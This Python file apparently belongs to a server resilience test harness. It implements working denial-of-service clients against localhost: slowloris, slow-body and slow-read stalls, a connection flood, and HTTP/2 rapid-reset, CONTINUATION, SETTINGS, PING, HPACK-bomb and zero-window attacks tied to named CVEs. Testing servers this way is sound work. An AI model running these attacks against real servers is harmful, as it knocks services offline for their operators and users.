"""Hostile clients. Each attack goes on until it is told to stop; what it says at its end is what it saw."""

import asyncio
import collections
import socket

from frames import CANCEL, CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, SETTINGS
from frames import block, field, frame, get, kept_field, read_frame, reset, settings

LOGIN = b"POST /api/token/ HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"


class Attack:
    """What a crowd of hostile connections does to a port."""

    def __init__(self, port, crowd):
        self.port, self.crowd, self.seen, self.stopped = port, crowd, collections.Counter(), asyncio.Event()

    async def run(self):
        gate = asyncio.Semaphore(200)  # so many are connecting at once
        await asyncio.gather(*(self.one(gate, number) for number in range(self.crowd)))

    async def one(self, gate, number):
        while not self.stopped.is_set():
            try:
                async with gate:
                    reader, writer = await asyncio.wait_for(self.open(), 10)
            except (OSError, asyncio.TimeoutError):
                self.seen["no connection"] += 1
                await asyncio.sleep(0.2)
                continue
            self.seen["connections"] += 1
            attack = asyncio.ensure_future(self.attack(reader, writer))
            stop = asyncio.ensure_future(self.stopped.wait())
            await asyncio.wait([attack, stop], return_when=asyncio.FIRST_COMPLETED)
            attack.cancel(), stop.cancel()
            try:
                await attack
            except (OSError, asyncio.IncompleteReadError):
                self.seen["closed by the server"] += 1
            except asyncio.CancelledError:
                pass
            writer.transport.abort()

    async def open(self):
        return await asyncio.open_connection("127.0.0.1", self.port)

    async def attack(self, reader, writer):
        raise NotImplementedError

    async def until_closed(self, reader):
        while await reader.read(65536):
            pass
        self.seen["closed by the server"] += 1


class Idle(Attack):
    """One request, then silence: many such connections are open at once."""

    async def attack(self, reader, writer):
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        await self.until_closed(reader)


class SlowHead(Attack):
    """A byte of a head each second (slowloris)."""

    async def attack(self, reader, writer):
        closed = asyncio.ensure_future(self.until_closed(reader))
        for byte in b"GET /healthz HTTP/1.1\r\nX-Slow: " + b"a" * 10_000:
            writer.write(bytes([byte]))
            done, _ = await asyncio.wait([closed], timeout=1)
            if done:
                return


class SlowBody(Attack):
    """A byte of a body each second."""

    head = LOGIN + b"Content-Length: 10000\r\n\r\n"

    async def attack(self, reader, writer):
        writer.write(self.head)
        answer = asyncio.ensure_future(reader.read(12))
        while not answer.done():
            writer.write(b"{")
            await asyncio.wait([answer], timeout=1)
        self.seen[(await answer).decode(errors="replace")] += 1
        raise ConnectionResetError


class ExpectAndNothing(SlowBody):
    """`Expect: 100-continue`, and then nothing."""

    head = LOGIN + b"Expect: 100-continue\r\nContent-Length: 10000\r\n\r\n"

    async def attack(self, reader, writer):
        writer.write(self.head)
        answer = (await reader.readexactly(25))[:12]
        self.seen[answer.decode()] += 1
        self.seen[(await reader.read(12)).decode(errors="replace")] += 1
        raise ConnectionResetError


class SlowRead(Attack):
    """Requests whose answers nobody reads; buffers and segments are as small as can be, so that the server notices."""

    async def open(self):
        narrow = socket.socket()
        narrow.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        narrow.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
        narrow.setblocking(False)
        await asyncio.get_running_loop().sock_connect(narrow, ("127.0.0.1", self.port))
        return await asyncio.open_connection(sock=narrow, limit=1)

    async def attack(self, reader, writer):
        writer.transport.pause_reading()
        while True:
            writer.write(b"GET /api-auth/login/ HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50)
            await writer.drain()
            await asyncio.sleep(0.5)


class Flood(Attack):
    """Connections as fast as they go, thrown away at once."""

    async def one(self, gate, number):
        while not self.stopped.is_set():
            try:
                _, writer = await asyncio.wait_for(self.open(), 10)
                writer.transport.abort()
                self.seen["connections"] += 1
            except (OSError, asyncio.TimeoutError):
                self.seen["no connection"] += 1
                await asyncio.sleep(0.05)


class Http2Attack(Attack):
    """Frames without end; what the server says last is counted."""

    opening = settings(enable_push=0)
    at_once = 1000

    async def attack(self, reader, writer):
        writer.write(PREFACE + self.opening)
        listening = asyncio.ensure_future(self.listen(reader))
        listening.add_done_callback(lambda task: task.cancelled() or task.exception())
        try:
            stream = 1
            while not listening.done():
                stream = self.send(writer, stream)
                self.seen["frames"] += self.at_once
                await writer.drain()
                await asyncio.sleep(0)
                if stream > 2**31 - 10_000:
                    return
        except OSError:
            await asyncio.wait([listening], timeout=1)
        await listening

    async def listen(self, reader):
        while True:
            kind, _, _, payload = await read_frame(reader)
            if kind == GOAWAY:
                self.seen[f"GOAWAY {int.from_bytes(payload[4:8], 'big')} {payload[8:].decode()}".strip()] += 1
                raise ConnectionResetError

    def send(self, writer, stream):
        """Some thousand frames; gives the next stream's number."""
        raise NotImplementedError


class RapidReset(Http2Attack):
    """Requests that are taken back at once (CVE-2023-44487)."""

    def send(self, writer, stream):
        numbers = range(stream, stream + 1000, 2)
        writer.write(b"".join(get("/healthz", number) + reset(number, CANCEL) for number in numbers))
        return stream + 1000


class Continuation(Http2Attack):
    """A head that has no end (CVE-2024-27316)."""

    def send(self, writer, stream):
        if stream == 1:
            writer.write(frame(HEADERS, END_STREAM, 1, block("/healthz")))
        writer.write(frame(CONTINUATION, 0, 1, field("x", "a" * 1000)) * 1000)
        return 3


class Settings(Http2Attack):
    """Settings that each have to be acknowledged (CVE-2019-9515)."""

    def send(self, writer, stream):
        writer.write(settings(max_frame=16384) * 1000)
        return stream


class Ping(Http2Attack):
    """Pings that each have to be answered (CVE-2019-9512)."""

    def send(self, writer, stream):
        writer.write(frame(PING, payload=b"8 bytes.") * 1000)
        return stream


class HpackBomb(Http2Attack):
    """A large field, kept in the table and named thousands of times (CVE-2016-1544)."""

    at_once = 10

    def send(self, writer, stream):
        numbers = range(stream, stream + 20, 2)
        bomb = block("/healthz") + kept_field("x-bomb", "a" * 3900) + b"\xbe" * 10_000
        writer.write(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, bomb) for number in numbers))
        return stream + 20


class ZeroWindow(Http2Attack):
    """Answers that may never be sent (CVE-2019-9517)."""

    opening = settings(enable_push=0, window=0)

    async def attack(self, reader, writer):
        writer.write(PREFACE + self.opening)
        writer.write(b"".join(get("/api-auth/login/", number) for number in range(1, 200, 2)))
        while True:
            kind, flags, _, payload = await read_frame(reader)
            if kind in (SETTINGS, PING) and not flags & 1:
                writer.write(frame(kind, 1, payload=payload if kind == PING else b""))


ATTACKS = {
    "slow-head": (SlowHead, 2000),
    "slow-body": (SlowBody, 1000),
    "expect": (ExpectAndNothing, 1000),
    "slow-read": (SlowRead, 500),
    "connection-flood": (Flood, 200),
    "rapid-reset": (RapidReset, 4),
    "continuation": (Continuation, 4),
    "settings": (Settings, 4),
    "ping": (Ping, 4),
    "hpack-bomb": (HpackBomb, 4),
    "zero-window": (ZeroWindow, 100),
}
